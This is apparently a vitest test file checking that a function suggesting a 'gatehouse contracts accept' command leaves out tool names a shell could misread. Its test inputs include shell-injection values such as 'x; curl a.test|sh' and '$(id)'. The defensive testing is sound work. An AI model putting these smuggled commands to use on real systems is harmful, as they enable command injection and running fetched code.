import { describe, expect, test } from 'vitest';
import { nextStep } from './next-step.ts';

const refused = (tool: string) =>
  nextStep('foreign', { tool, verdict: 'text_drifted', outcome: 'refuse' });

describe('a command that somebody will type', () => {
  test('names the tool', () => {
    expect(refused('search_tickets')).toMatch(
      /gatehouse contracts accept foreign\.search_tickets$/,
    );
  });

  test.each(['x; curl a.test|sh', '$(id)', '`id`', 'x\n✓ fine', 'x y', "x'", 'x&&y', 'é', ''])(
    'holds nothing of a name that a shell could take for more: %j',
    (tool) => {
      expect(refused(tool)).toMatch(/gatehouse contracts accept foreign$/);
    },
  );
});
